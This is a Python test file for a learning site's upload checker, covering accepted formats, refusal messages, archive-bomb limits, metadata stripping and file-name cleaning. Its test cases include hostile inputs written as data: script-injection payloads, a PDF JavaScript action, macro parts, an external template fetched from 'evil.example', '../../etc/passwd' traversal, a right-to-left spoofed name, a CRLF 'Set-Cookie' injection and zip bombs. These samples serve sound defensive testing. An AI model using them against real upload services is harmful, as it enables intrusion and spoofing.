"""What is taken as a file and what is refused, each with what to do."""

import io

import pytest
from PIL import Image

from learning_org.trail.files import archives as archives_module
from learning_org.trail.files import check_file
from learning_org.trail.files.checks import clean_name
from learning_org.web.errors import Refused
from tests.support.files import PDF, archive, office, open_document, photo, picture, upload

RIGHT = "\u202e"  # what follows is written from right to left: "fdp.exe" would show as "exe.pdf"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("certificate.pdf", PDF, "application/pdf"),
        ("NOTES.PDF", PDF, "application/pdf"),
        ("notes.docx", office("docx"), WORD),
        ("figures.xlsx", office("xlsx"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("talk.pptx", office("pptx"), "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("notes.odt", open_document(), "application/vnd.oasis.opendocument.text"),
        ("drawing.png", picture("PNG"), "image/png"),
        ("drawing.png", picture("PNG", mode="P"), "image/png"),
        ("photo.jpg", picture("JPEG"), "image/jpeg"),
        ("photo.jpeg", picture("JPEG", mode="L"), "image/jpeg"),
        ("notes.txt", b"What I learnt: 3 < 4 & 5 > 4.\r\n", "text/plain; charset=utf-8"),
    ],
)
def test_what_is_taken_by_its_content_whatever_the_browser_says(name, content, content_type):
    checked = check_file(upload(name, content, "text/html"))
    assert (checked.name, checked.content_type) == (name, content_type)
    if not content_type.startswith("image"):
        assert checked.content == content


@pytest.mark.parametrize(
    ("content", "kept"),
    [
        ("Café, 10 £".encode(), "Café, 10 £"),
        ("Café, 10 £".encode("cp1252"), "Café, 10 £"),
        ("Café, 10 £".encode("utf-16"), "Café, 10 £"),
        ("Café, 10 £".encode("utf-8-sig"), "Café, 10 £"),
        (b"BMW is not a bitmap", "BMW is not a bitmap"),
    ],
)
def test_plain_text_is_kept_as_utf_8(content, kept):
    assert check_file(upload("notes.txt", content)).content.decode() == kept


UNREADABLE = "The picture cannot be read. Save it again, and choose that."
PROGRAM = "This PDF holds a program. Print it to a new PDF, and choose that."
KIND = "The file must be PDF, Word, Excel, PowerPoint, OpenDocument, plain text, PNG or JPEG. Save it as one of these, and choose it again."
MACROS = "This file holds macros, which are programs. Save a copy without macros, and choose that."
NOT_AS_NAMED = "This file is not what its name says. Save it again in its own program, and choose that."
TOO_MUCH = "This file unpacks to more than is taken. Save a smaller copy, and choose that."
DAMAGED = "This file is damaged. Save it again, and choose that."
PDF_DAMAGED = "This PDF is damaged or not complete. Save it again as a PDF, and choose that."
PDF_AND_MORE = "This PDF is another kind of file as well. Print it to a new PDF, and choose that."
WEB_PAGE = "This file is a page of the web, not plain text. Print it to a PDF, and choose that."
OUTSIDE = "This file fetches parts of itself from elsewhere. Save it as a PDF, and choose that."
FETCHES = (
    b'<Relationships><Relationship Type=".../attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def not_a(what):
    return f"This file is named as {what}, but is not one. Save it again as {what}, or choose another."


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.pdf", b"", "The file is empty. Choose another."),
        ("page.html", b"<html></html>", KIND),
        ("drawing.svg", b"<svg/>", KIND),
        ("programme.exe", b"MZ", KIND),
        ("letter.docm", office("docx"), KIND),
        ("letter.doc", b"\xd0\xcf\x11\xe0", KIND),
        ("certificate", PDF, KIND),
        ("certificate.pdf.exe", PDF, KIND),
        ("certificate.pdf", picture("PNG"), not_a("a PDF")),
        ("certificate.pdf", b"<html><script>alert(1)</script>", not_a("a PDF")),
        ("certificate.pdf", b"MZ\x90\x00" + b"\0" * 200, not_a("a PDF")),
        ("certificate.pdf", b"no pdf at all", not_a("a PDF")),
        ("certificate.pdf", PDF.replace(b"%%EOF\n", b""), PDF_DAMAGED),
        ("certificate.pdf", PDF.replace(b"1 0 obj", b"<script>alert(1)</script>", 1), PDF_AND_MORE),
        ("certificate.pdf", PDF + archive({"a": "b"}) + b"%%EOF", PDF_AND_MORE),
        ("certificate.pdf", PDF.replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript >>"), PROGRAM),
        ("photo.jpg", PDF, not_a("a JPEG")),
        ("photo.jpg", picture("PNG"), not_a("a JPEG")),
        ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", not_a("a PNG")),
        ("drawing.png", picture("PNG")[:40], UNREADABLE),
        ("photo.jpg", picture("JPEG", size=(300, 300))[:400], UNREADABLE),
        ("notes.docx", PDF, not_a("a Word document")),
        ("notes.docx", archive({"a": "b"}), NOT_AS_NAMED),
        ("notes.docx", office("xlsx"), NOT_AS_NAMED),
        ("notes.docx", open_document(), NOT_AS_NAMED),
        ("notes.odt", office("docx"), NOT_AS_NAMED),
        ("notes.docx", office("docx", macros=True), MACROS),
        ("notes.docx", office("docx", **{"word/vbaProject.bin": b"x"}), MACROS),
        ("notes.docx", office("docx", **{"word/activeX/activeX1.xml": b"x"}), MACROS),
        ("notes.odt", open_document(**{"Basic/Standard/Module1.xml": b"x"}), MACROS),
        ("notes.docx", office("docx", **{"word/_rels/settings.xml.rels": FETCHES}), OUTSIDE),
        ("notes.docx", office("docx")[:-30], DAMAGED),
        ("notes.docx", office("docx").replace(b"PK\x01\x02", b"PK\x01\x09"), DAMAGED),
        ("notes.docx", office("docx", **{"../../etc/passwd": b"x"}), DAMAGED),
        ("notes.txt", b"<!DOCTYPE html><p>hello", WEB_PAGE),
        ("notes.txt", b"hello <ScRiPt>alert(1)</script>", WEB_PAGE),
        ("notes.txt", b"  <svg onload=alert(1)>", WEB_PAGE),
        ("notes.txt", b"hello\x00there", "This file is named as plain text, but is not. Choose another."),
        ("notes.txt", picture("PNG"), "This file is named as plain text, but is not. Choose another."),
    ],
)  # fmt: skip
def test_what_is_refused_and_what_to_do(name, content, message):
    with pytest.raises(Refused) as refusal:
        check_file(upload(name, content, "application/pdf"))
    assert (refusal.value.message, refusal.value.field) == (message, "file")


def test_a_locked_office_file_is_refused():
    locked = bytearray(office("docx"))
    for place in range(len(locked) - 4):  # the bit "locked" of every part, in both of the archive's lists
        if locked[place : place + 4] in (b"PK\x03\x04", b"PK\x01\x02"):
            locked[place + (6 if locked[place + 2] == 3 else 8)] |= 1
    with pytest.raises(Refused, match="This file is locked with a password"):
        check_file(upload("notes.docx", bytes(locked)))


def test_size_to_the_byte(settings):
    settings.FILE_MAX_MB = 1
    fits = PDF[:-6] + b" " * (1_000_000 - len(PDF)) + PDF[-6:]
    assert len(check_file(upload("notes.pdf", fits)).content) == 1_000_000
    with pytest.raises(Refused, match="The file must be 1 MB or smaller. Save a smaller copy, and choose that."):
        check_file(upload("notes.pdf", b" " + fits))


def test_an_archive_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(archives_module, "MOST_UNPACKED", 3_000_000)
    bomb = office("docx", **{"word/media/image1.bin": b"\0" * 4_000_000})
    assert len(bomb) < 10_000
    with pytest.raises(Refused, match=TOO_MUCH):
        check_file(upload("notes.docx", bomb))


def test_an_archive_that_lies_about_its_sizes_is_refused(monkeypatch):
    monkeypatch.setattr(archives_module, "MOST_UNPACKED", 3_000_000)
    size, small = (4_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little")
    bomb = office("docx", **{"word/media/image1.bin": b"\0" * 4_000_000}).replace(size, small)
    with pytest.raises(Refused):
        check_file(upload("notes.docx", bomb))


def test_an_archive_of_thousands_of_parts_is_refused(monkeypatch):
    monkeypatch.setattr(archives_module, "MOST_PARTS", 20)
    with pytest.raises(Refused, match=TOO_MUCH):
        check_file(upload("notes.docx", office("docx", **{f"word/{n}.xml": "x" for n in range(20)})))


def test_a_picture_of_too_many_points_is_refused():
    with pytest.raises(Refused, match="The picture is too large. Save a smaller copy, and choose that."):
        check_file(upload("drawing.png", picture("PNG", size=(10_001, 5_000), mode="1")))


def test_a_photo_keeps_what_is_seen_and_nothing_else():
    checked = check_file(upload("photo.jpg", photo()))
    kept = Image.open(io.BytesIO(checked.content))
    assert kept.size == (6, 8)  # turned as it was seen
    assert dict(kept.getexif()) == {}
    assert not set(kept.info) & {"exif", "comment", "xmp"}
    for word in (b"Priya", b"Acacia", b"Exif"):
        assert word not in checked.content


def test_what_is_hidden_behind_a_picture_is_not_kept():
    checked = check_file(upload("drawing.png", picture("PNG") + b"<script>alert(1)</script>" + archive({"a.exe": "MZ"})))
    assert checked.content.endswith(b"IEND\xaeB`\x82")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("certificate.pdf", "certificate.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\priya\\notes.pdf", "notes.pdf"),
        (f"invoice{RIGHT}fdp.pdf", "invoicefdp.pdf"),
        ("zero\u200bwidth\u2066.pdf", "zerowidth.pdf"),
        ("line\r\nSet-Cookie: x.pdf", "lineSet-Cookie_ x.pdf"),
        ("tab\tnull\0.pdf", "tabnull.pdf"),
        ('a"b<c>d|e?f*.pdf', "a_b_c_d_e_f_.pdf"),
        ("  many   spaces .pdf", "many spaces.pdf"),
        (".pdf", "pdf"),
        ("...", "file"),
        ("", "file"),
        (None, "file"),
        ("Zoë’s & José's notes.pdf", "Zoë’s & José's notes.pdf"),
        ("e\u0301.pdf", "\u00e9.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_names(given, kept):
    assert clean_name(given) == kept
    assert len(clean_name(given)) <= 120
